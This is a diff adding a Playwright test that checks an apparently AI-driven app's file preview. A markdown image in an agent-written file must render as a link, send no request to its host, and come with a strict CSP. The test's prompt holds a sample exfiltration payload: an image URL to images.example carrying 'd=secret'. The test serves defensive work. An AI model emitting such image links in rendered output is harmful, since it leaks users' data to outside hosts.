@@ -1,0 +1,32 @@
+import { expect, test } from "@playwright/test";
+import { send } from "./helpers";
+
+const LOOPBACK = new Set(["127.0.0.1", "localhost", "[::1]"]);
+
+test("a markdown image in a previewed file is a link: no request leaves for its host, and the page has a CSP", async ({
+  page,
+}) => {
+  const foreign: string[] = [];
+  page.on("request", (r) => {
+    const url = new URL(r.url());
+    if ((url.protocol === "http:" || url.protocol === "https:") && !LOOPBACK.has(url.hostname)) foreign.push(r.url());
+  });
+  const res = await page.goto("/");
+  const csp = res?.headers()["content-security-policy"] ?? "";
+  expect(csp).toContain("img-src 'self' data: blob:");
+  expect(csp).toMatch(/script-src 'self' 'nonce-/);
+
+  await send(page, 'write a note to pixel.md saying "![pixel](http://images.example/p.png?d=secret)" and show it');
+  const present = page.locator('[data-testid="tool-call"][data-tool-name="present_files"]');
+  await expect(present).toHaveAttribute("data-status", "ok", { timeout: 30_000 });
+  await expect(page.getByTestId("stop-button")).toHaveCount(0, { timeout: 30_000 });
+
+  const note = page.locator('[data-testid="artifact"][data-path$="/outputs/pixel.md"]');
+  await expect(note).toHaveCount(1);
+  await note.getByRole("button").first().click();
+  const preview = page.getByTestId("artifact-preview");
+  const link = preview.getByTestId("markdown-image-link");
+  await expect(link).toHaveAttribute("href", "http://images.example/p.png?d=secret");
+  await expect(preview.locator("img")).toHaveCount(0);
+  expect(foreign).toEqual([]);
+});
